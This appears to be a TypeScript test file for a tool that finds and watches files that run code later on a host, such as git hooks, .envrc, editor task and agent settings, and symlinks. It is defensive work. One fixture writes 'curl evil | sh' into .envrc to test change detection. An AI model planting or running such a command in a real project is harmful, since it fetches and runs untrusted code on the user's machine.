import { expect, test } from 'bun:test'
import { renameSync, writeFileSync } from 'node:fs'
import { executableConfig, watchForChanges } from './executable-config.ts'
import { TempTree } from './temp-tree.ts'

test('what runs later on the host is found, and what is not there yet is named', () => {
  using tree = new TempTree().write({
    '.git/hooks/pre-commit': '',
    '.git/config': '',
    '.envrc': '',
    '.vscode/tasks.json': '',
    '.mcp.json': '',
    '.claude/settings.json': '',
    'agentkernel.toml': '',
    Makefile: '',
  })
  const found = executableConfig(tree.path)
  expect(found.existing).toEqual(['.claude', '.envrc', '.git/config', '.git/hooks', '.mcp.json', '.vscode', 'agentkernel.toml'])
  expect(found.unprotected).toContain('.cursor')
  expect(found.unprotected).toContain('.git/commondir')
  expect(found.unprotected).not.toContain('.git')
})

test('the .git file of a worktree is kept, and a missing .git is watched', () => {
  using tree = new TempTree().write({ 'w/.git': 'gitdir: /x', plain: undefined })
  expect(executableConfig(tree.at('w')).existing).toEqual(['.git'])
  expect(executableConfig(tree.at('plain')).existing).toEqual([])
  expect(executableConfig(tree.at('plain')).unprotected).toContain('.git')
})

test('nested repositories and a hooks folder of the project are found', () => {
  using tree = new TempTree().write({
    'sub/.git/config': '[core]\n\tbare = false\n',
    'sub/.git/hooks': undefined,
    '.git/config': '[core]\n\thooksPath = tools/hooks\n',
    'tools/hooks/pre-push': '',
  })
  expect(executableConfig(tree.path, ['.git', 'sub/.git']).existing).toEqual([
    '.git/config',
    'sub/.git/config',
    'sub/.git/hooks',
    'tools/hooks',
  ])
})

test('every hooks folder and included file that a git configuration names is kept, as git reads it', () => {
  using tree = new TempTree().write({
    '.git/config': '[core] hooksPath = one # first\n\thooksPath = "tw"o\n[include]\n\tpath = ../shared.gitconfig\n',
    'shared.gitconfig': '[core]\n\thooksPath = three\n[include]\n\tpath = shared.gitconfig\n',
    one: undefined,
    two: undefined,
    three: undefined,
  })
  expect(executableConfig(tree.path, ['.git']).existing).toEqual(['.git/config', 'one', 'shared.gitconfig', 'three', 'two'])
})

test('a hooks folder elsewhere is left alone', () => {
  using tree = new TempTree().write({ 'p/.git/config': '[core]\n\thooksPath = ../../outside\n', outside: undefined })
  expect(executableConfig(tree.at('p')).existing).toEqual(['.git/config'])
})

test('a symlink is watched, and what it leads to inside the project is kept', () => {
  using tree = new TempTree().write({ 'p/settings': undefined, 'p/.vscode': '-> settings', out: undefined, 'p/.claude': '-> ../out' })
  const found = executableConfig(tree.at('p'))
  expect(found.existing).toEqual(['settings'])
  expect(found.unprotected).toContain('.vscode')
  expect(found.unprotected).toContain('.claude')
})

test('a path that appears or is exchanged is named afterwards', () => {
  using tree = new TempTree().write({ '.claude': '-> a', other: '-> b' })
  const changed = watchForChanges(tree.path, ['.envrc', '.claude', '.vscode', '.idea/x'])
  expect(changed()).toEqual([])
  writeFileSync(tree.at('.envrc'), 'curl evil | sh')
  renameSync(tree.at('other'), tree.at('.claude'))
  expect(changed()).toEqual(['.envrc', '.claude'])
})
